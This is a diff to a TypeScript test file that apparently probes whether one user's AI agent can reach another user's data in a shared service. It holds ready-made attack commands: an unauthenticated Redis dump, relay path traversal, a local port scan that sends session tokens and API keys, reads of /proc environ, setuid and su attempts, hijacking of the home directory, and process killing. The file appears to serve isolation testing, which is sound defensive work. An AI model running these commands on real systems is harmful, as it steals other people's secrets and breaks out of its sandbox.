@@ -5,6 +5,9 @@ export type Victim = {
   temporary: string;
   /** The processes of the other person's agent. */
   pids: number[];
+  /** Where the relay answers, which every link in a chat names, and where Redis does, without its password. */
+  relayUrl: string;
+  redis: { host: string; port: number };
 };
 
 /** What the victim has hidden, by the place: each is a random word that ends with the place's name. */
@@ -42,6 +45,19 @@ for (const pid of process.argv.slice(1)) {
   console.log(pid, ...found);
 }`;
 
+/** What the relay holds of a person, each behind an address of its own: the words end with the name. */
+export const servedPlaces = ['page', 'media'] as const;
+
+/** Asks Redis for everything, without a password. */
+const askRedis = `
+const [port, host] = process.argv.slice(1);
+const socket = require('net').connect(port, host);
+socket.on('data', (data) => console.log(String(data)));
+socket.on('error', (error) => console.log(error.message));
+for (const line of ['KEYS *', 'AUTH default', 'HGETALL {sidepocket}:page-sizes', 'ZRANGE {sidepocket}:pages 0 -1', 'ZRANGE {sidepocket}:files 0 -1', 'SCAN 0'])
+  socket.write(line + '\\r\\n');
+setTimeout(() => socket.destroy(), 2000);`;
+
 /** Connects to each socket of a path and prints what it says. */
 const askSockets = `
 const net = require('net');
@@ -56,7 +72,13 @@ for (const path of process.argv.slice(1)) {
  * Ways by which one person's agent might get at what is another person's, as lines of shell by what
  * they aim at. What they find they print.
  */
-export function personAttacks({ home, temporary, pids }: Victim): Record<string, string> {
+export function personAttacks({
+  home,
+  temporary,
+  pids,
+  relayUrl,
+  redis,
+}: Victim): Record<string, string> {
   const all = pids.join(' ');
   const node = `"${process.execPath}" -e`;
   return {
@@ -70,6 +92,9 @@ export function personAttacks({ home, temporary, pids }: Victim): Record<string,
     'becoming the other': `uid=$(stat -c %u ${home}); for how in "setpriv --reuid $uid sh -c" "setpriv --regid $uid --clear-groups sh -c" "su -c" "unshare -Ur sh -c" "sudo -n sh -c"; do $how "id; cat ${home}/workspaces/*/*" </dev/null; done; node -e "process.setuid($uid)"`,
     'taking the place': `mv ${home} ${home}.gone; mkdir ${home}/../.users/1; ln -sfn $HOME ${home}; touch ${home}/workspaces/mine ${temporary}/mine; ln ${home}/workspaces/*/secret.txt stolen; chmod -R 777 ${home}; ls -la ${home}/..`,
     links: `for file in ${home}/workspaces/*/secret.txt; do ln -sfn $file leak.txt; done; ln -sfn ${home}/home/secret leak-2.txt; ln -sfn /proc/${pids[0] ?? 1}/environ leak-3.txt; cat leak.txt leak-2.txt leak-3.txt`,
+    relay: `for path in "" page page/ media media/ link link/ links admin admin/queues metrics health robots.txt "page/..%2f" "media/*" "media/%7Bsidepocket%7D:files"; do curl -s -m 5 -i "${relayUrl}/$path"; done; for n in 0 1 2; do curl -s -m 5 "${relayUrl}/media/$(head -c 18 /dev/urandom | base64 | tr +/ -_)" "${relayUrl}/page/$(head -c 40 /dev/urandom | base64 -w0 | tr +/ -_)"; done`,
+    Redis: `${node} '${askRedis.replaceAll("'", `'\\''`)}' ${redis.port} ${redis.host}`,
+    'ports of this machine': `for port in $(awk '$4 == "0A" { split($2, at, ":"); print at[2] }' /proc/net/tcp /proc/net/tcp6 | sort -u); do for path in "" health environment pages media wake v1/models v1/files v1/messages json; do curl -s -m 2 -H "x-sidepocket-token: \${SIDEPOCKET_SESSION_TOKEN-}" -H "x-api-key: \${ANTHROPIC_API_KEY-}" "http://127.0.0.1:$((0x$port))/$path" | head -c 100000; done; done; echo looked`,
     signals: `for p in ${all}; do kill -STOP $p; kill -CONT $p; kill -USR1 $p; done; sleep 1; curl -s -m 2 http://127.0.0.1:9229/json; for p in ${all}; do renice -n 19 -p $p; prlimit --pid $p --nofile=3:3; kill -KILL $p; done`,
   };
 }
